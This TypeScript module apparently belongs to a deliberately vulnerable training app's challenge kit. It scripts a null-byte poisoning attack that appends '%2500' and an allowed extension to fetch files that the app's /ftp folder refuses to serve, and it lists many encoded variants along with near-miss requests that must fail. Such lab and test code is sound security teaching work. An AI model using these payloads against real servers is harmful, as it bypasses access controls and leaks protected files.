import type { Attack, Attacker } from '@fruit/challenge-kit/proof'

const AS_JSON = { headers: { accept: 'application/json' } }

/** Suffixes with a null byte that cut off the name. */
const ENDS: Readonly<Record<string, string>> = {
  'the ending that notices have': '%2500.md',
  'the ending that confirmations have': '%2500.pdf',
  'the whole name of a document behind it': '%2500legal.md',
  'an ending in capitals': '%2500.MD',
  'two zeros': '%2500%2500.md',
  'every sign of the zero in percent signs': '%25%30%30.md',
  'the ending in percent signs': '%2500%2emd',
  'a query behind it': '%2500.md?download=true',
  'a question mark in the name': '%2500%3f.pdf',
  'other endings between': '%2500.txt.zip.md',
}

/**
 * Downloads a document that the public folder does not serve. It finds the name in the listing, requests it, reads the accepted extensions
 * in the error and appends one of them after a null byte.
 *
 * @param name as in the listing; if there is no listing, the name is guessed
 */
export async function fetchPoisoned(attacker: Attacker, name: string): Promise<void> {
  const listing = await attacker.get('/ftp', AS_JSON)
  const names: string[] = listing.status === 200 ? listing.json() : [name]
  const found = names.find((each) => each === name)
  const refused = await attacker.get(`/ftp/${found}`, AS_JSON)
  const [, ending = '.md'] = /Only (\.\w+)/.exec(refused.text) ?? []
  await attacker.get(`/ftp/${found}%2500${ending}`)
}

/** Variants of the last request. */
export function spellingsOf(name: string): Record<string, Attack> {
  const capitals: Attack = (attacker) => attacker.get(`/ftp/${name.toUpperCase()}%2500.md`)
  const encoded: Attack = (attacker) => attacker.get(`/ftp/${name.replaceAll('.', '%2e')}%2500.md`)
  return {
    ...Object.fromEntries(
      Object.entries(ENDS).map(([title, end]): [string, Attack] => [
        title,
        (attacker) => attacker.get(`/ftp/${name}${end}`),
      ]),
    ),
    'the name in capitals': capitals,
    'the name in percent signs': encoded,
  }
}

/** Similar requests that must not return the document. */
export function nearMissesOf(name: string): Record<string, Attack> {
  return {
    'the name as it is': (attacker) => attacker.get(`/ftp/${name}`),
    'an ending that is let through, without a zero': (attacker) => attacker.get(`/ftp/${name}.md`),
    'a zero that the router reads itself': (attacker) => attacker.get(`/ftp/${name}%00.md`),
    'a zero that is still written in percent signs afterwards': (attacker) => attacker.get(`/ftp/${name}%252500.md`),
    'a zero, and no ending that is let through': (attacker) => attacker.get(`/ftp/${name}%2500`),
    'an ending that is not let through behind the zero': (attacker) => attacker.get(`/ftp/${name}%2500.bak`),
    'the ending before the zero': (attacker) => attacker.get(`/ftp/legal.md%2500${name}`),
    'another sign than a zero': (attacker) => attacker.get(`/ftp/${name}%250a.md`),
    'the same in another folder': (attacker) => attacker.get(`/ftp/quarantine/${name}%2500.md`),
  }
}
